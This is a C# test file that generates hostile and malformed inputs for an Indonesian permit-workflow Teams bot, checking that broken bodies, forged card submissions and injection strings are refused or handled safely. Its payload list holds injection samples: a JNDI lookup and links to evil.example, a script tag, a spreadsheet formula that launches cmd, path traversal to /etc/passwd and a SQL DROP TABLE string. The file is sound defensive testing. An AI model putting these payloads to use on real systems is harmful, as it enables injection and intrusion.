using System.Text;
using System.Text.Json.Nodes;
using PerijinanBot.Bot.Tests.Dialogs;
using PerijinanBot.Bot.Tests.Infrastructure;
using PerijinanBot.Dialogs.Sop;

namespace PerijinanBot.Bot.Tests.Hostile;

/// <summary>Where the generated inputs aim: the office's people, and a kegiatan waiting at step 2 for Budi.</summary>
/// <param name="Step2">The data of Budi's step 2 card's submit button, inputs filled as he would.</param>
public sealed record HostileScene(string ServiceUrl, Person Ketua, Person Budi, Person Kadis, string Number, int Version, JsonObject Step2);

/// <summary>
/// The generated malformed and forged inputs that need no token (the Development host): broken bodies, wrong types and huge
/// strings in every field, deep nesting, unknown types and verbs, forged card data, and hostile text in every typed field.
/// </summary>
public static class HostileInputs
{
    /// <summary>Text that would be markup, a mention, a query, a formula or a path somewhere downstream.</summary>
    public static readonly string[] Payloads =
    [
        "[Unduh](https://evil.example/x)",
        "**tebal** _miring_ ~~coret~~",
        "<a href=\"https://evil.example\">klik</a>",
        "&lt;a href=https://evil.example&gt;klik&lt;/a&gt;",
        "<at>Siti Aminah</at> <script>alert(1)</script>",
        "' or PartitionKey ne '",
        "PartitionKey eq 'x' or true",
        "=HYPERLINK(\"https://evil.example\",\"klik\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "# judul\n- butir\n1. satu",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/a} {{7*7}}",
        "\u202Eabc\u200B\u0000\u0007",
        "FAS-2026-0001'; DROP TABLE Kegiatan; --",
    ];

    private static readonly string[] CommandWords = ["status", "riwayat", "batal", "alihkan", "jadwal", "dokumen", "agenda", "laporan", "tugas", "peran"];

    /// <summary>Every field of a message, as a JSON path from the activity's root.</summary>
    private static readonly string[] Fields =
    [
        "type", "id", "timestamp", "serviceUrl", "channelId", "text", "textFormat", "locale", "replyToId", "name", "action",
        "from", "from.id", "from.name", "from.aadObjectId",
        "conversation", "conversation.id", "conversation.conversationType", "conversation.tenantId", "conversation.isGroup",
        "recipient", "recipient.id", "recipient.name",
        "channelData", "channelData.tenant", "channelData.tenant.id",
        "value", "entities", "attachments", "membersAdded",
    ];

    public static IEnumerable<HostileCase> All(HostileScene scene) =>
        Bodies().Concat(WrongTypes(scene)).Concat(HugeStrings(scene)).Concat(Nesting(scene)).Concat(UnknownKinds(scene))
            .Concat(Commands(scene)).Concat(ForgedCards(scene)).Concat(TypedText(scene));

    private static IEnumerable<HostileCase> Bodies()
    {
        const string category = "broken body";
        foreach (var body in new[] { "", " ", "{", "}", "[", "[]", "null", "0", "true", "\"message\"", "{\"type\":", "{\"type\":\"message\",}", "{'type':'message'}", "{\"type\":\"message\"} trailing", "{\"type\":NaN}", "{\"type\":\"message\" /* c */}", "\uFEFF", "{\"type\":\"message\",\"text\":\"\\ud800\"}" })
        {
            yield return HostileCase.Raw(category, $"body '{body}'", body, Answer.Refused | Answer.Dropped);
        }

        const string utf8 = "invalid UTF-8";
        var prefix = Encoding.UTF8.GetBytes("{\"type\":\"message\",\"text\":\"");
        var suffix = Encoding.UTF8.GetBytes("\"}");
        foreach (var (name, bytes) in new (string, byte[])[]
        {
            ("lone continuation byte", [0x80]),
            ("0xFF 0xFE", [0xFF, 0xFE]),
            ("overlong slash", [0xC0, 0xAF]),
            ("encoded surrogate", [0xED, 0xA0, 0x80]),
            ("truncated sequence", [0xE2, 0x82]),
            ("above U+10FFFF", [0xF4, 0x90, 0x80, 0x80]),
        })
        {
            yield return new HostileCase(utf8, name, [.. prefix, .. bytes, .. suffix], Answer.Refused);
        }

        const string size = "over the limit";
        foreach (var kb in new[] { 257, 1024, 4096 })
        {
            var big = "{\"type\":\"message\",\"text\":\"" + new string('a', kb * 1024) + "\"}";
            yield return HostileCase.Raw(size, $"{kb} KB", big, Answer.Refused);
        }

        const string type = "content type";
        foreach (var contentType in new[] { "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml" })
        {
            yield return new HostileCase(type, contentType, Encoding.UTF8.GetBytes("{\"type\":\"message\",\"text\":\"bantuan\"}"), Answer.Refused, ContentType: contentType);
        }
    }

    private static IEnumerable<HostileCase> WrongTypes(HostileScene scene)
    {
        foreach (var field in Fields)
        {
            foreach (var (kind, value) in new (string, Func<JsonNode?>)[]
            {
                ("number", () => JsonValue.Create(12345)),
                ("boolean", () => JsonValue.Create(true)),
                ("array", () => new JsonArray(1, "x")),
                ("object", () => new JsonObject { ["x"] = 1 }),
                ("string", () => JsonValue.Create("x")),
            })
            {
                var activity = Message(scene, scene.Ketua, "bantuan");
                if (!Set(activity, field, value()))
                {
                    continue;
                }

                // An activity the bot may still understand gets its answer; one it cannot is refused; a type it does not
                // handle, or a tenant or channel it no longer recognises, is let go.
                yield return HostileCase.Json("wrong type", $"{field} as {kind}", activity, Answer.Refused | Answer.Reply | Answer.Dropped);
            }
        }
    }

    private static IEnumerable<HostileCase> HugeStrings(HostileScene scene)
    {
        var huge = new string('\u00e9', 100_000);
        foreach (var field in Fields)
        {
            var activity = Message(scene, scene.Ketua, "bantuan");
            Set(activity, field, JsonValue.Create(huge));
            yield return HostileCase.Json("huge string", field, activity, Answer.Refused | Answer.Reply | Answer.Dropped);
        }
    }

    private static IEnumerable<HostileCase> Nesting(HostileScene scene)
    {
        foreach (var depth in new[] { 70, 1_000, 20_000 })
        {
            foreach (var field in new[] { "value", "channelData", "entities" })
            {
                var nested = new StringBuilder();
                nested.Append('[', depth).Append(']', depth);
                var activity = Message(scene, scene.Ketua, "bantuan");
                activity[field] = "NESTED";
                var body = activity.ToJsonString().Replace("\"NESTED\"", nested.ToString(), StringComparison.Ordinal);
                yield return HostileCase.Raw("deep nesting", $"{field} {depth} deep", body, Answer.Refused);
            }
        }
    }

    private static IEnumerable<HostileCase> UnknownKinds(HostileScene scene)
    {
        foreach (var type in new[] { "foo", "event", "typing", "messageReaction", "messageUpdate", "messageDelete", "endOfConversation", "deleteUserData", "handoff", "trace" })
        {
            var activity = Message(scene, scene.Ketua, "bantuan");
            activity["type"] = type;
            yield return HostileCase.Json("unknown type", type, activity, Answer.Dropped | Answer.Refused);
        }

        foreach (var name in new[] { "foo/bar", "task/fetch", "task/submit", "composeExtension/query", "fileConsent/invoke", "signin/verifyState", "actionableMessage/executeAction", "" })
        {
            var activity = Invoke(scene, scene.Ketua, name, new JsonObject { ["x"] = 1 });
            yield return HostileCase.Json("unknown invoke", $"'{name}'", activity, Answer.Refused | Answer.RefusalCard);
        }

        foreach (var verb in new[] { "hapusSemua", "admin", "", "sop.submit ", "SOP.SUBMIT", "../submit", "delegation.add\u0000" })
        {
            var activity = Execute(scene, scene.Ketua, verb, new JsonObject { ["kegiatan"] = scene.Number });
            yield return HostileCase.Json("unknown verb", $"'{verb}'", activity, Answer.Refused | Answer.RefusalCard);
        }
    }

    private static IEnumerable<HostileCase> Commands(HostileScene scene)
    {
        foreach (var payload in Payloads)
        {
            foreach (var word in CommandWords)
            {
                yield return HostileCase.Json("typed command", $"{word} {Short(payload)}", Message(scene, scene.Ketua, $"{word} {payload}"), Answer.Reply);
            }

            yield return HostileCase.Json("typed command", $"text {Short(payload)}", Message(scene, scene.Ketua, payload), Answer.Reply);
        }
    }

    private static IEnumerable<HostileCase> ForgedCards(HostileScene scene)
    {
        const string category = "forged card data";
        JsonObject Step2With(Action<JsonObject> change)
        {
            var data = (JsonObject)scene.Step2.DeepClone();
            change(data);
            return data;
        }

        var verb = SopVerbs.Submit;
        var forged = new (string Name, Person By, JsonObject Data)[]
        {
            ("another kegiatan", scene.Budi, Step2With(d => d["kegiatan"] = "FAS-2026-9999")),
            ("kegiatan of another year", scene.Budi, Step2With(d => d["kegiatan"] = "FAS-1999-0001")),
            ("kegiatan not a number", scene.Budi, Step2With(d => d["kegiatan"] = "' or 1 eq 1")),
            ("kegiatan missing", scene.Budi, Step2With(d => d.Remove("kegiatan"))),
            ("kegiatan as object", scene.Budi, Step2With(d => d["kegiatan"] = new JsonObject { ["x"] = 1 })),
            ("a later step", scene.Budi, Step2With(d => d["step"] = 3)),
            ("the last step", scene.Budi, Step2With(d => d["step"] = 7)),
            ("step 0", scene.Budi, Step2With(d => d["step"] = 0)),
            ("step 99", scene.Budi, Step2With(d => d["step"] = 99)),
            ("negative step", scene.Budi, Step2With(d => d["step"] = -1)),
            ("step as text", scene.Budi, Step2With(d => d["step"] = "dua")),
            ("an old version", scene.Budi, Step2With(d => d["version"] = scene.Version - 1)),
            ("a future version", scene.Budi, Step2With(d => d["version"] = scene.Version + 5)),
            ("version overflow", scene.Budi, Step2With(d => d["version"] = long.MaxValue)),
            ("version as text", scene.Budi, Step2With(d => d["version"] = "x")),
            ("the Kadis on Budi's step", scene.Kadis, Step2With(_ => { })),
            ("the Ketua on Budi's step", scene.Ketua, Step2With(_ => { })),
            ("actor fields naming Budi, sent by the Kadis", scene.Kadis, Step2With(d => { d["actorId"] = scene.Budi.AadObjectId; d["actor"] = scene.Budi.AadObjectId; d["from"] = new JsonObject { ["aadObjectId"] = scene.Budi.AadObjectId }; d["aadObjectId"] = scene.Budi.AadObjectId; })),
            ("definition of another SOP", scene.Budi, Step2With(d => { d["definition"] = "sop-lain"; d["version"] = scene.Version - 1; })),
        };
        foreach (var (name, by, data) in forged)
        {
            yield return HostileCase.Json(category, name, Execute(scene, by, verb, data), Answer.RefusalCard | Answer.Refused);
        }

        foreach (var other in new[] { SopVerbs.Approve, SopVerbs.Reject, SopVerbs.Execute, SopVerbs.Report, SopVerbs.Cancel })
        {
            yield return HostileCase.Json(category, $"{other} by Budi on his step 2", Execute(scene, scene.Budi, other, Step2With(d => d[SopVerbs.AlasanInput] = "x")), Answer.RefusalCard | Answer.Refused);
            yield return HostileCase.Json(category, $"{other} by the Kadis", Execute(scene, scene.Kadis, other, Step2With(d => d[SopVerbs.AlasanInput] = "x")), Answer.RefusalCard | Answer.Refused);
        }

        // The Action.Submit fallback carries the same data in a message: answered in the chat.
        foreach (var (name, by, data) in forged.Take(6))
        {
            var value = (JsonObject)data.DeepClone();
            value["verb"] = verb;
            var activity = Message(scene, by, "");
            activity["value"] = value;
            activity["replyToId"] = "card-1";
            yield return HostileCase.Json(category, $"submit fallback: {name}", activity, Answer.Reply);
        }
    }

    private static IEnumerable<HostileCase> TypedText(HostileScene scene)
    {
        foreach (var payload in Payloads)
        {
            // Every text input of step 2 hostile, sent by someone whose step it is not: refused, nothing stored.
            var data = (JsonObject)scene.Step2.DeepClone();
            foreach (var key in data.Select(p => p.Key).Where(k => !SopVerbs.Reserved.Contains(k)).ToList())
            {
                data[key] = payload;
            }

            yield return HostileCase.Json("hostile text", $"step 2 inputs {Short(payload)}", Execute(scene, scene.Kadis, SopVerbs.Submit, data), Answer.RefusalCard | Answer.Refused);

            // The same by Budi on an old version of the card: stale, nothing stored.
            var stale = (JsonObject)data.DeepClone();
            stale["version"] = scene.Version - 1;
            yield return HostileCase.Json("hostile text", $"stale step 2 inputs {Short(payload)}", Execute(scene, scene.Budi, SopVerbs.Submit, stale), Answer.RefusalCard | Answer.Refused);

            // A step 1 form with every field hostile and no valid Anggota: the form comes back with its errors.
            var start = new JsonObject { ["definition"] = "fasilitasi-perijinan" };
            foreach (var key in new[] { "jenisFasilitasi", "judul", "koperasi", "kabupatenKota", "anggota", "disposisi" })
            {
                start[key] = payload;
            }

            yield return HostileCase.Json("hostile text", $"step 1 form {Short(payload)}", Execute(scene, scene.Ketua, SopVerbs.Start, start), Answer.RefusalCard | Answer.Refused);

            // Reasons for cancel, reassign and reschedule from someone who may not: refused, the reason kept nowhere.
            foreach (var verbName in new[] { SopVerbs.Cancel, SopVerbs.Reassign, SopVerbs.Reschedule })
            {
                var reason = new JsonObject
                {
                    ["kegiatan"] = scene.Number,
                    ["step"] = 2,
                    ["version"] = scene.Version,
                    [SopVerbs.AlasanInput] = payload,
                    [SopVerbs.NewHolderInput] = payload,
                    [SopVerbs.NewJadwalInput] = payload,
                    [SopVerbs.NewTempatInput] = payload,
                };
                yield return HostileCase.Json("hostile text", $"{verbName} by Budi {Short(payload)}", Execute(scene, scene.Budi, verbName, reason), Answer.RefusalCard | Answer.Refused);
            }
        }
    }

    public static JsonObject Message(HostileScene scene, Person person, string text) =>
        ActivityFactory.Base("message", scene.ServiceUrl, person.ConversationId, person.AadObjectId, new JsonObject { ["text"] = text, ["textFormat"] = "plain", ["locale"] = "id-ID" });

    private static JsonObject Invoke(HostileScene scene, Person person, string name, JsonNode value) =>
        ActivityFactory.Base("invoke", scene.ServiceUrl, person.ConversationId, person.AadObjectId, new JsonObject { ["name"] = name, ["value"] = value, ["replyToId"] = "card-1" });

    private static JsonObject Execute(HostileScene scene, Person person, string verb, JsonObject data) =>
        Invoke(scene, person, "adaptiveCard/action", new JsonObject
        {
            ["action"] = new JsonObject { ["type"] = "Action.Execute", ["verb"] = verb, ["data"] = data.DeepClone() },
            ["trigger"] = "manual",
        });

    /// <summary>Sets the field at a dotted path, creating nothing: false when its parent is not an object.</summary>
    private static bool Set(JsonObject activity, string path, JsonNode? value)
    {
        var parts = path.Split('.');
        JsonNode? parent = activity;
        foreach (var part in parts[..^1])
        {
            parent = parent?[part];
        }

        if (parent is not JsonObject target)
        {
            return false;
        }

        target[parts[^1]] = value;
        return true;
    }

    private static string Short(string payload) => payload.Length <= 24 ? payload : payload[..24] + "…";
}
